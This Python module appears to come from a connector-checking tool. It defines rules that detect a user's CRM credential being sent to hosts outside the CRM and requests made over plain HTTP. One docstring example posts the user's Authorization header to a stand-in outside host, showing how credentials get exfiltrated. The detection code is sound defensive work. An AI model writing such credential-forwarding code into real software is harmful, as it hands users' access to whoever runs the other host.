"""Where requests go: the user's own CRM, and never in the clear (contract 2.1)."""

from collections.abc import Iterator

from appconnect_cli.evidence import Evidence
from appconnect_cli.evidence.values import leaves
from appconnect_cli.findings import Severity
from appconnect_cli.rules.observing import unexercised
from appconnect_cli.rules.results import CALLABLE
from appconnect_cli.rules.rule import Breach, Judgement, Rule
from appconnect_cli.runtime.result import CallResult, Returned
from appconnect_cli.transports.base import Exchange
from appconnect_cli.transports.encodings import TAG
from appconnect_cli.transports.hosts import host_of, hosts_in, is_loopback, is_one_of
from appconnect_cli.transports.origin import STABLE_BASE_URL

CRM = host_of(STABLE_BASE_URL)
"""The host of the profile's base URL, under the name that a recording gives it."""


def credential_sent_elsewhere(evidence: Evidence, interface: str) -> Judgement:
    """The user's credential goes to the user's CRM only.

    What it does
        Looks where requests go that carry the user's credential. The CRM's hosts are those of the profile, of the
        user's row, of getOauthInfo, of the manifest's environment and log-in, what the CRM itself named in an earlier
        answer of the call, and what the settings declare.
    Why it matters in production
        Whoever runs the other host can act as that user.
    Example
        await httpx.AsyncClient().post("https://stats.example/usage", headers={"Authorization": request.auth_header})
    How to mend
        Send it without the credential. If the host is one of the CRM's own, say so in appconnect.toml: under
        [connector], hosts = ["login.acme.example"]; "*.acme.example" stands for all hosts below it.
    """
    calls = evidence.of(interface)
    if not calls:
        return unexercised(evidence, interface)
    known = _hosts(evidence)
    return tuple(
        Breach(
            seen=f"{exchange.method} {exchange.url} carries {', '.join(f'{{{{{name}}}}}' for name in sorted(carried))}",
            due=f"no credential for {host}, which is none of the CRM's hosts as far as anything says",
            call=call,
            cause=f"credential sent to {host}",
        )
        for call in calls
        for exchange, host, carried in _elsewhere(call, known)
    )


def plain_http(evidence: Evidence, interface: str) -> Judgement:
    """Nothing goes over plain HTTP, except on this machine itself.

    What it does
        Looks at the scheme of every request; one that has no recorded answer counts, too. Loopback addresses may be
        asked over plain HTTP. Without a credential, and to another host than the CRM, it is a warning.
    Why it matters in production
        Everybody on the way reads the credential and the customers' data, and can change them.
    Example
        f"http://{request.user.hostname}/contacts"
    How to mend
        Write https. `self.base_url(user)` does, and takes http for a loopback host only, such as a sandbox's.
    """
    calls = (*evidence.of(interface), *evidence.outdated(interface))
    if not calls:
        return unexercised(evidence, interface)
    return tuple(
        Breach(
            seen=f"{method} {url}",
            due="https",
            call=call,
            cause=f"plain HTTP to {host_of(url)}",
            severity=None if is_secret or host_of(url) == CRM else Severity.WARNING,
        )
        for call in calls
        for method, url, is_secret in _asked(call)
        if url.lower().startswith("http://") and not is_loopback(url)
    )


def _elsewhere(call: CallResult, known: frozenset[str]) -> Iterator[tuple[Exchange, str, frozenset[str]]]:
    """What carries the user's credential to a host that nothing names as the CRM's."""
    own = known.union(hosts_in(call.user))
    users = _credentials(call)
    for at, exchange in enumerate(call.exchanges):
        host, carried = host_of(exchange.url), exchange.carried & users
        if carried and not (is_loopback(host) or is_one_of(host, own) or _named_by_crm(call.exchanges[:at], host, own)):
            yield exchange, host, carried


def _credentials(call: CallResult) -> frozenset[str]:
    """The names of the user's own: in the row, or at log-in in the argument."""
    argument = call.argument if isinstance(call.argument, dict) else {}
    held = (call.user, argument.get("authHeader"), argument.get("apiKey"))
    return frozenset(tag[2:-2] for _, value in leaves(list(held)) for tag in TAG.findall(str(value)))


def _named_by_crm(earlier: tuple[Exchange, ...], host: str, own: frozenset[str]) -> bool:
    """Whether the CRM sent the connector there: by a redirect, or as a tenant's own address after a log-in."""
    answers = (exchange for exchange in earlier if is_one_of(host_of(exchange.url), own))
    return any(
        host in exchange.response_body.decode("utf-8", "replace").lower()
        or host in exchange.response_headers.get("location", "").lower()
        for exchange in answers
    )


def _hosts(evidence: Evidence) -> frozenset[str]:
    """The CRM's hosts, as far as the project says; with `*.acme.example` for all hosts below one."""
    platforms = (evidence.manifest or {}).get("platforms")
    platform = platforms.get(evidence.connector) if isinstance(platforms, dict) else None
    declared = [platform.get(name) for name in ("environment", "auth")] if isinstance(platform, dict) else []
    oauth = evidence.oauth_info.value if isinstance(evidence.oauth_info, Returned) else None
    return frozenset({CRM, *evidence.hosts, *hosts_in(declared), *hosts_in(oauth)})


def _asked(call: CallResult) -> Iterator[tuple[str, str, bool]]:
    """Method and URL of everything that was sent, and whether it is known to carry a credential."""
    yield from ((exchange.method, exchange.url, bool(exchange.carried)) for exchange in call.exchanges)
    yield from ((miss.method, miss.url, False) for miss in call.misses)


RULES = (
    Rule("credential-sent-elsewhere", "2.1", Severity.ERROR, CALLABLE, credential_sent_elsewhere),
    Rule("plain-http", "2.1", Severity.ERROR, CALLABLE, plain_http),
)
